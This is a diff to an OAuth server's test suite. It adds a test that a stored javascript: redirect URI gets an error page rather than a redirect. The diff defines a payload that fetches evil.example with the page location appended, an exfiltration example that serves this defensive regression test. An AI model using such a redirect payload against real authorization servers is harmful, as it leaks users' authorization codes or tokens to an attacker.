@@ -9,6 +9,7 @@ import { runCli } from '../cli/run-cli.js';
 
 const TOKEN_EXCHANGE = 'urn:ietf:params:oauth:grant-type:token-exchange';
 const CALLBACK = 'http://127.0.0.1:9/callback';
+const LEGACY_REDIRECT = 'javascript:fetch(`//evil.example/?`+location)';
 
 /**
  * Invariants 5 and 6 (issue 7). A public client (`tokenEndpointAuthMethod: "none"`) proves
@@ -92,7 +93,13 @@ describe.each(BACKENDS)('clients: public means public, redirect URIs are safe (%
         const { keygate } = t.server;
         const tenant = (await keygate.directory.tenant('acme'))!;
         const stored = (await keygate.store.findClient(tenant.id, publicId)) as Client;
-        const widened: Client = { ...stored, canIntrospect: true, grantTypes: [...stored.grantTypes, 'client_credentials', TOKEN_EXCHANGE], scopes: { [api]: ['read:users'], [ORDERS_API]: ['read:orders'] } };
+        const widened: Client = {
+          ...stored,
+          canIntrospect: true,
+          grantTypes: [...stored.grantTypes, 'client_credentials', TOKEN_EXCHANGE],
+          scopes: { [api]: ['read:users'], [ORDERS_API]: ['read:orders'] },
+          redirectUris: [...stored.redirectUris, LEGACY_REDIRECT],
+        };
         // Written straight into the store, past the registration checks, as an old version would have.
         await keygate.store.updateClient(widened, keygate.audit.event(tenant.id, { id: 'legacy', requestId: null, ip: null }, 'client.update', publicId));
         await keygate.directory.changed([publicId]);
@@ -106,6 +113,15 @@ describe.each(BACKENDS)('clients: public means public, redirect URIs are safe (%
         // The token is live: a confidential client with the permission does see it.
         const auditor = (await registerMachineClient(t, { canIntrospect: true })) as typeof machine;
         expect((await postForm(t, '/t/acme/oauth/introspect', { token: machineToken }, { authorization: basic(auditor.clientId, auditor.clientSecret) })).body.active).toBe(true);
+      });
+
+      it('authorization: a stored javascript: redirect URI gets an error page, never a redirect', async () => {
+        const query = new URLSearchParams({ client_id: publicId, redirect_uri: LEGACY_REDIRECT, response_type: 'code', scope: 'read:users', code_challenge: 'a'.repeat(43), code_challenge_method: 'S256' });
+        const before = await snapshot();
+        const response = await fetch(`${issuer}/oauth/authorize?${query}`, { redirect: 'manual' });
+        expect(response.status).toBe(400);
+        expect(response.headers.get('location')).toBeNull();
+        expect(await snapshot()).toBe(before);
       });
 
       it('client credentials: unauthorized_client, no token', async () => {
